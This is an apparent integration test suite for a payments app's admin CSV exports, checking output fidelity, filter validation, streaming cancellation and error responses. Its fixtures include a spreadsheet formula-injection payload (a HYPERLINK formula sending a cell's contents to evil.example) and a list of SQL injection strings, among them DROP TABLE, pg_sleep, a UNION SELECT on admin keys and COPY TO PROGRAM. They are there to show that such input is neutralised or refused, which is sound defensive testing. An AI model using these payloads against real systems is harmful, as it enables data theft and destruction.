// The exports as PostgreSQL writes them (COPY ... TO STDOUT WITH CSV): byte for byte the CSV the
// TypeScript wrote before (csv-stringify over the record mappers below, kept here as the
// reference), filters that no input can break out of, a COPY that stops when the client hangs
// up, and JSON errors for what fails before the first byte.
import http from 'node:http';
import { stringify } from 'csv-stringify/sync';
import express from 'express';
import fc from 'fast-check';
import pg from 'pg';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { csvExportRoutes } from '../../../src/payments/export-routes.ts';
import { dateOnly, isoUtc, money, neutralise, yesNo } from '../../../src/payments/csv.ts';
import {
  createExportRepository, EXPORT_SETTINGS, paymentsCopySql, payoutsCopySql, pledgesCopySql, type ExportFilter,
} from '../../../src/payments/export-repository.ts';
import { createExportService, PAYMENT_COLUMNS, PAYOUT_COLUMNS, PLEDGE_COLUMNS } from '../../../src/payments/export-service.ts';
import { createExportSlots } from '../../../src/payments/export-slots.ts';
import { errorHandler } from '../../../src/http/error-handler.ts';
import { createLogger } from '../../../src/logger.ts';
import { buildApp, listen } from '../../helpers/app.ts';
import { createTestDatabase, type TestDatabase } from '../../helpers/database.ts';
import { adminQuery, withDatabase } from '../../helpers/global-setup.ts';
import { bearer, campaign, mintKey, payment, pledge } from './admin-fixtures.ts';

let db: TestDatabase;
let app: ReturnType<typeof buildApp>;
let auth: Record<string, string>;

beforeAll(async () => {
  db = await createTestDatabase();
  app = buildApp(db);
  auth = bearer((await mintKey(db)).key);

  const alpha = await campaign(db, 'alpha');
  const yen = await campaign(db, 'yen', 'jpy');
  const dinar = await campaign(db, 'dinar', 'kwd');
  await db.prisma.payout.create({ data: { id: 'po_a', amount: 12_345, currency: 'usd', status: 'paid', arrivalDate: new Date('2026-11-20T00:00:00Z') } });
  await db.prisma.payout.create({ data: { id: 'po_b', amount: 0, currency: 'usd', status: 'in_transit', arrivalDate: new Date('2026-12-10T00:00:00Z') } });
  await db.prisma.payout.create({ data: { id: '=po_c', amount: 5_000, currency: 'kwd', status: 'paid', arrivalDate: new Date('2026-12-11T00:00:00Z') } });

  const tricky: Array<Parameters<typeof pledge>[2]> = [
    { name: 'Smith, John', email: 'smith@example.org', message: 'say "hi",\nthen\r\nleave', dedication: 'a,b' },
    { name: '=HYPERLINK("http://evil.example/?x="&A1,"click")', email: '+cmd@example.org', message: '-2+3', dedication: '@SUM(1)' },
    { name: '', email: '-minus@example.org', message: '', dedication: "'=already" },
    { name: '\rCarriage', email: 'cr@example.org', message: '\tTabbed', dedication: ' =spaced' },
    { name: 'Zoë 😀 ＝1', email: 'zoe@example.org', message: '\\N', dedication: '\\.' },
    { name: null, email: 'anon@example.org', anonymous: true, frequency: 'monthly' },
  ];
  let i = 0;
  for (const t of tricky) {
    i++;
    const c = [alpha, yen, dinar][i % 3]!;
    const p = await pledge(db, c, { amount: 1000 * i + 5, createdAt: new Date(Date.UTC(2026, 10, i, 10, 0, 0, i * 7)), ...t });
    await payment(db, { ...p, amount: p.amount }, {
      paidAt: new Date(Date.UTC(2026, 10, i, 10, 5, 0, i * 13)),
      fee: i === 2 ? null : i * 31,
      net: i === 3 ? -5 : undefined,
      amountRefunded: i === 1 ? 500 : 0,
      disputeStatus: i === 4 ? 'lost' : 'none',
      invoiceId: i === 5 ? '@inv' : null,
      payoutId: c === dinar ? '=po_c' : i % 2 ? 'po_a' : 'po_b',
      payoutArrivalDate: new Date('2026-11-20T00:00:00Z'),
    });
  }
  const pending = await pledge(db, dinar, { amount: 5120, status: 'pending', createdAt: new Date('2026-12-02T00:00:00Z') });
  await payment(db, { ...pending, amount: 5120 }, { status: 'pending', paidAt: null, fee: null, chargeId: null, balanceTransactionId: null });
  await pledge(db, alpha, { amount: 1000, createdAt: new Date('2026-12-03T00:00:00Z'), status: 'expired', checkoutSessionId: null, name: null });
  await db.pool.query(`UPDATE payments SET flag = '+flagged' WHERE stripe_invoice_id = '@inv'`);
  await db.pool.query(`UPDATE pledges SET stripe_subscription_id = 'sub_1', subscription_status = 'active' WHERE frequency = 'monthly'`);
});
afterAll(async () => {
  await db?.drop();
});

// ---- the reference: how the exports were written before COPY ------------------------------

function referencePayments(f: ExportFilter) {
  const v: unknown[] = [];
  const w: string[] = [];
  if (f.campaign) w.push(`c.slug = $${v.push(f.campaign)}`);
  if (f.status) w.push(`p.status = $${v.push(f.status)}::"PaymentStatus"`);
  if (f.from) w.push(`p.paid_at >= $${v.push(f.from)}`);
  if (f.to) w.push(`p.paid_at < $${v.push(f.to)}`);
  return db.pool.query(`
    SELECT p.id::text, p.pledge_id::text, c.slug AS campaign, p.paid_at, pl.name, pl.email, pl.anonymous,
      pl.frequency::text, p.currency, p.amount, p.fee, p.net, p.amount_refunded, p.dispute_status::text,
      pl.checkout_session_id, p.stripe_payment_intent_id AS payment_intent_id, p.stripe_charge_id AS charge_id,
      p.stripe_invoice_id AS invoice_id, p.stripe_balance_transaction_id AS balance_transaction_id,
      p.stripe_payout_id AS payout_id, p.payout_arrival_date, p.status::text, p.flag
    FROM payments p JOIN pledges pl ON pl.id = p.pledge_id JOIN campaigns c ON c.id = p.campaign_id
    ${w.length ? `WHERE ${w.join(' AND ')}` : ''} ORDER BY p.paid_at NULLS LAST, p.id`, v).then(({ rows }) => stringify(rows.map((r) => {
    const t = neutralise;
    return [
      t(r.id), t(r.pledge_id), t(r.campaign), isoUtc(r.paid_at), t(r.name), t(r.email), yesNo(r.anonymous), t(r.frequency),
      t(r.currency), money(r.amount, r.currency), money(r.fee, r.currency), money(r.net, r.currency),
      money(r.amount_refunded, r.currency), t(r.dispute_status), t(r.checkout_session_id), t(r.payment_intent_id),
      t(r.charge_id), t(r.invoice_id), t(r.balance_transaction_id), t(r.payout_id), dateOnly(r.payout_arrival_date),
      t(r.status), t(r.flag),
    ];
  }), { header: true, columns: PAYMENT_COLUMNS }));
}

function referencePledges(f: ExportFilter) {
  const v: unknown[] = [];
  const w: string[] = [];
  if (f.campaign) w.push(`c.slug = $${v.push(f.campaign)}`);
  if (f.status) w.push(`pl.status = $${v.push(f.status)}::"PledgeStatus"`);
  if (f.from) w.push(`pl.created_at >= $${v.push(f.from)}`);
  if (f.to) w.push(`pl.created_at < $${v.push(f.to)}`);
  return db.pool.query(`
    SELECT pl.id::text, c.slug AS campaign, pl.created_at, pl.completed_at, pl.status::text, pl.frequency::text,
      pl.currency, pl.amount, pl.covered_fee, pl.cover_fees, pl.name, pl.email, pl.anonymous, pl.message,
      pl.dedication, pl.checkout_session_id, pl.stripe_subscription_id AS subscription_id, pl.subscription_status
    FROM pledges pl JOIN campaigns c ON c.id = pl.campaign_id
    ${w.length ? `WHERE ${w.join(' AND ')}` : ''} ORDER BY pl.created_at, pl.id`, v).then(({ rows }) => stringify(rows.map((r) => {
    const t = neutralise;
    return [
      t(r.id), t(r.campaign), isoUtc(r.created_at), isoUtc(r.completed_at), t(r.status), t(r.frequency), t(r.currency),
      money(r.amount, r.currency), money(r.covered_fee, r.currency), yesNo(r.cover_fees), t(r.name), t(r.email),
      yesNo(r.anonymous), t(r.message), t(r.dedication), t(r.checkout_session_id), t(r.subscription_id),
      t(r.subscription_status),
    ];
  }), { header: true, columns: PLEDGE_COLUMNS }));
}

function referencePayouts(f: ExportFilter) {
  const v: unknown[] = [];
  const w: string[] = [];
  if (f.campaign) w.push(`EXISTS (SELECT 1 FROM payments x JOIN campaigns c ON c.id = x.campaign_id WHERE x.stripe_payout_id = po.id AND c.slug = $${v.push(f.campaign)})`);
  if (f.status) w.push(`po.status = $${v.push(f.status)}`);
  if (f.from) w.push(`po.arrival_date >= $${v.push(f.from)}`);
  if (f.to) w.push(`po.arrival_date < $${v.push(f.to)}`);
  return db.pool.query(`
    SELECT po.id, po.status, po.arrival_date, po.currency, po.amount, po.carried, po.failure_code, count(p.id)::int AS payments,
      COALESCE(sum(p.amount), 0)::text AS gross, COALESCE(sum(p.fee), 0)::text AS fee, COALESCE(sum(p.net), 0)::text AS net,
      COALESCE(sum(p.amount_refunded), 0)::text AS refunded,
      count(p.id) FILTER (WHERE p.fee IS NULL OR p.net IS NULL)::int AS unknown_fees
    FROM payouts po LEFT JOIN payments p ON p.stripe_payout_id = po.id
    ${w.length ? `WHERE ${w.join(' AND ')}` : ''} GROUP BY po.id ORDER BY po.arrival_date, po.id`, v).then(({ rows }) => stringify(rows.map((r) => {
    const t = neutralise;
    const difference = r.unknown_fees > 0 ? '' : money(r.amount - Number(r.net) - r.carried, r.currency);
    return [
      t(r.id), t(r.status), dateOnly(r.arrival_date), t(r.currency), money(r.amount, r.currency), String(r.payments),
      money(r.gross, r.currency), money(r.fee, r.currency), money(r.net, r.currency), money(r.refunded, r.currency),
      String(r.unknown_fees), difference, money(r.carried, r.currency), r.failure_code === null ? '' : t(r.failure_code),
    ];
  }), { header: true, columns: PAYOUT_COLUMNS }));
}

async function body(path: string): Promise<string> {
  const res = await request(app).get(path).set(auth).buffer(true).parse((r, cb) => {
    let text = '';
    r.setEncoding('utf8');
    r.on('data', (c: string) => (text += c));
    r.on('end', () => cb(null, text));
  });
  expect(res.status, String(res.body)).toBe(200);
  expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
  return res.body as string;
}

const FILTERS: Array<[string, ExportFilter]> = [
  ['', {}],
  ['?campaign=alpha', { campaign: 'alpha' }],
  ['?campaign=nobody', { campaign: 'nobody' }],
  ['?from=2026-11-03&to=2026-11-05T10:05:00Z', { from: new Date('2026-11-03T00:00:00Z'), to: new Date('2026-11-05T10:05:00Z') }],
  ['?campaign=dinar&from=2026-01-01', { campaign: 'dinar', from: new Date('2026-01-01T00:00:00Z') }],
];

describe('byte for byte the CSV the TypeScript wrote', () => {
  it('payments.csv, with each filter', async () => {
    for (const [q, f] of [...FILTERS, ['?status=pending', { status: 'pending' }] as [string, ExportFilter]]) {
      expect(await body(`/api/admin/exports/payments.csv${q}`), q).toBe(await referencePayments(f));
    }
    // The fixture reaches the cases that matter: quoting, neutralising, NULL and '', precisions.
    const all = await body('/api/admin/exports/payments.csv');
    expect(all).toContain('"Smith, John"');
    expect(all).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(all).toContain(`"'\rCarriage"`);
    expect(all).toContain(',-0.05,');
    expect(all).toMatch(/,kwd,\d+\.\d{3},/);
    expect(all).toMatch(/,jpy,\d+,/);
    expect(all).not.toMatch(/(^|,)""(,|\n)/m);
  });

  it('pledges.csv, with each filter', async () => {
    for (const [q, f] of [...FILTERS, ['?status=expired', { status: 'expired' }] as [string, ExportFilter]]) {
      expect(await body(`/api/admin/exports/pledges.csv${q}`), q).toBe(await referencePledges(f));
    }
    const all = await body('/api/admin/exports/pledges.csv');
    expect(all).toContain('"say ""hi"",\nthen\r\nleave"');
    expect(all).toContain(`'\tTabbed`);
    expect(all).toContain('\\N');
  });

  it('payouts.csv, with each filter', async () => {
    for (const [q, f] of [...FILTERS, ['?status=paid', { status: 'paid' }] as [string, ExportFilter]]) {
      expect(await body(`/api/admin/exports/payouts.csv${q}`), q).toBe(await referencePayouts(f));
    }
    expect(await body('/api/admin/exports/payouts.csv')).toContain("'=po_c,paid,2026-12-11,kwd,5.000,");
  });
});

describe('filters: no input reaches the SQL unchecked', () => {
  const INJECTIONS = [
    "x' OR '1'='1", "'; DROP TABLE payments; --", "alpha'--", "\\'; SELECT pg_sleep(10); --", 'alpha\u0000', "E'\\x27'",
    '$$; DROP TABLE payments; $$', "alpha' UNION SELECT * FROM admin_keys --", '1) TO PROGRAM \'id\' --', ' alpha', 'ALPHA',
  ];
  const DATES = ["2026-01-01'; DROP TABLE payments; --", "2026-01-01' OR '1'='1", '2026-13-45', 'now', 'infinity'];

  it('400 for an injection attempt in every filter of every export, and the data is untouched', async () => {
    const before = await db.pool.query('SELECT (SELECT count(*) FROM payments) AS p, (SELECT count(*) FROM pledges) AS pl');
    for (const path of ['payments', 'pledges', 'payouts']) {
      for (const value of INJECTIONS) {
        for (const field of ['campaign', 'status']) {
          const res = await request(app).get(`/api/admin/exports/${path}.csv`).query({ [field]: value }).set(auth);
          expect(res.status, `${path} ${field}=${value}`).toBe(400);
          expect(res.body.error.details[0].field).toBe(field);
        }
      }
      for (const value of DATES) {
        for (const field of ['from', 'to']) {
          const res = await request(app).get(`/api/admin/exports/${path}.csv`).query({ [field]: value }).set(auth);
          expect(res.status, `${path} ${field}=${value}`).toBe(400);
        }
      }
    }
    const after = await db.pool.query('SELECT (SELECT count(*) FROM payments) AS p, (SELECT count(*) FROM pledges) AS pl');
    expect(after.rows).toEqual(before.rows);
  });

  it('the SQL builders refuse anything but a slug, a known status and a valid date, whoever calls them', () => {
    const builders = [paymentsCopySql, pledgesCopySql, payoutsCopySql];
    for (const build of builders) {
      for (const value of INJECTIONS) {
        expect(() => build({ campaign: value }), value).toThrow(/campaign/);
        expect(() => build({ status: value }), value).toThrow(/status/);
      }
      expect(() => build({ from: new Date('nonsense') })).toThrow(/from/);
      expect(() => build({ to: new Date(Number.NaN) })).toThrow(/to/);
      expect(() => build({ from: "2026-01-01' OR '1'='1" as unknown as Date })).toThrow(/from/);
      expect(() => build({ campaign: 42 as unknown as string })).toThrow(/campaign/);
    }
    // Any string at all: either refused, or a slug written as one quoted literal.
    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 80 }), (value) => {
      let sql: string;
      try {
        sql = paymentsCopySql({ campaign: value });
      } catch {
        return;
      }
      expect(value).toMatch(/^[a-z0-9]+(-[a-z0-9]+)*$/);
      expect(sql).toContain(`c.slug = '${value}'`);
    }));
    expect(payoutsCopySql({ status: 'in_transit' })).toContain(`po.status = 'in_transit'`);
    expect(paymentsCopySql({ from: new Date('2026-11-01T00:00:00Z') })).toContain(`p.paid_at >= '2026-11-01T00:00:00.000Z'::timestamptz`);
  });

  it('the repository rejects an injection before taking a connection', async () => {
    const repo = createExportRepository(db);
    const idle = db.admin.pool.totalCount - db.admin.pool.idleCount;
    for (const value of INJECTIONS) {
      await expect(repo.payments({ campaign: value })).rejects.toThrow(/invalid export filter/);
      await expect(repo.pledges({ status: value })).rejects.toThrow(/invalid export filter/);
      await expect(repo.payouts({ status: value })).rejects.toThrow(/invalid export filter/);
    }
    expect(db.admin.pool.totalCount - db.admin.pool.idleCount).toBe(idle);
  });
});

describe('streaming', () => {
  it('a client that hangs up mid-download ends the COPY: its backend leaves pg_stat_activity', async () => {
    const [alpha] = await db.prisma.campaign.findMany({ where: { slug: 'alpha' } });
    const bulk = await pledge(db, alpha!, { amount: 5000, name: 'Bulk' });
    await db.pool.query('ALTER TABLE payments DISABLE TRIGGER USER');
    await db.pool.query(`
      INSERT INTO payments (pledge_id, campaign_id, status, currency, amount, fee, net, stripe_payment_intent_id, paid_at)
      SELECT $1, $2, 'succeeded', 'usd', 5000, 175, 4825, 'pi_bulk_' || i, '2026-10-01'::timestamptz + i * interval '1 second'
      FROM generate_series(1, 300000) i`, [bulk.id, alpha!.id]);
    await db.pool.query('ALTER TABLE payments ENABLE TRIGGER USER');

    const exporting = () => db.pool.query<{ pid: number; state: string }>(
      `SELECT pid, state FROM pg_stat_activity
       WHERE datname = current_database() AND backend_type = 'client backend' AND pid <> pg_backend_pid()
         AND query LIKE '/* admin-export:payments */%'`,
    ).then((r) => r.rows);

    const server = await listen(app);
    try {
      let response: http.IncomingMessage | undefined;
      const req = http.get(`${server.url}/api/admin/exports/payments.csv`, { headers: auth });
      req.on('error', () => {});
      const received = await new Promise<number>((resolve, reject) => {
        req.on('response', (res) => {
          response = res;
          let bytes = 0;
          res.on('data', (chunk: Buffer) => {
            bytes += chunk.length;
            // Read a little, then stop reading: the COPY is now held up by backpressure.
            if (bytes > 256 * 1024) {
              res.pause();
              resolve(bytes);
            }
          });
          res.on('end', () => reject(new Error('the whole export arrived before the test hung up')));
        });
      });
      expect(received).toBeGreaterThan(256 * 1024);
      expect(response?.statusCode).toBe(200);

      // Mid-download: the COPY is running (held up, not finished) on exactly one backend.
      const running = await exporting();
      expect(running).toHaveLength(1);
      expect(running[0]!.state).toBe('active');
      const pid = running[0]!.pid;

      // Hang up like a closed browser tab.
      req.destroy();

      // That backend is gone altogether (not idle in the pool: the connection was discarded), and
      // the app's pool has no client checked out.
      await expect.poll(async () => {
        const { rows } = await db.pool.query('SELECT count(*)::int AS n FROM pg_stat_activity WHERE pid = $1', [pid]);
        return rows[0].n;
      }, { timeout: 10_000 }).toBe(0);
      expect(await exporting()).toEqual([]);
      await expect.poll(() => db.admin.pool.totalCount - db.admin.pool.idleCount, { timeout: 5000 }).toBe(0);
      // The pool still works, and a whole export still arrives.
      expect(await body('/api/admin/exports/payouts.csv')).toMatch(/^payout_id,/);
    } finally {
      await server.close();
      await db.pool.query('ALTER TABLE payments DISABLE TRIGGER USER');
      await db.pool.query("DELETE FROM payments WHERE stripe_payment_intent_id LIKE 'pi_bulk_%'");
      await db.pool.query('ALTER TABLE payments ENABLE TRIGGER USER');
    }
  }, 90_000);

  it('a finished export gives its connection back to the pool, with settings as they were', async () => {
    await body('/api/admin/exports/payments.csv');
    await expect.poll(() => db.admin.pool.totalCount - db.admin.pool.idleCount, { timeout: 5000 }).toBe(0);
    const clients = await Promise.all(Array.from({ length: db.admin.pool.idleCount }, () => db.admin.pool.connect()));
    try {
      for (const c of clients) {
        const names = EXPORT_SETTINGS.map(([name]) => name);
        const { rows } = await c.query(`SELECT name, setting = reset_val AS as_was FROM pg_settings WHERE name = ANY($1)`, [names]);
        expect(rows).toHaveLength(names.length);
        for (const r of rows) expect(r.as_was, r.name).toBe(true);
      }
    } finally {
      for (const c of clients) c.release();
    }
  });
});

describe('errors before the first byte are JSON', () => {
  function exportApp(pool: pg.Pool) {
    const router = csvExportRoutes(
      createExportService({ exports: createExportRepository({ pool }), slots: createExportSlots(2), stallAfterMs: 30_000 }),
      createLogger('silent'),
      () => new Date(),
    );
    return express().use('/api/admin', router).use(errorHandler);
  }

  it('503 when the database is down', async () => {
    // Nothing listens on port 9.
    const pool = new pg.Pool({ connectionString: 'postgresql://postgres@127.0.0.1:9/none', connectionTimeoutMillis: 2000 });
    try {
      for (const path of ['payments', 'pledges', 'payouts']) {
        const res = await request(exportApp(pool)).get(`/api/admin/exports/${path}.csv`);
        expect(res.status).toBe(503);
        expect(res.headers['content-type']).toMatch(/^application\/json/);
        expect(res.body.error.code).toBeDefined();
      }
    } finally {
      await pool.end();
    }
  });

  it('500 JSON, not a truncated CSV, when the COPY fails to start', async () => {
    // A database without the schema: the query fails in PostgreSQL, before any CSV byte.
    const adminUrl = inject('pgAdminUrl');
    const name = `empty_${process.pid}_${Date.now().toString(36)}`;
    await adminQuery(adminUrl, `CREATE DATABASE ${name}`);
    const pool = new pg.Pool({ connectionString: withDatabase(adminUrl, name) });
    try {
      const res = await request(exportApp(pool)).get('/api/admin/exports/payments.csv');
      expect(res.status).toBe(500);
      expect(res.headers['content-type']).toMatch(/^application\/json/);
      expect(res.body).toEqual({ error: { code: 'internal_error', message: expect.any(String) } });
      // The failed client was discarded, not returned to the pool.
      expect(pool.totalCount).toBe(0);
    } finally {
      await pool.end();
      await adminQuery(adminUrl, `DROP DATABASE IF EXISTS ${name} WITH (FORCE)`);
    }
  });
});
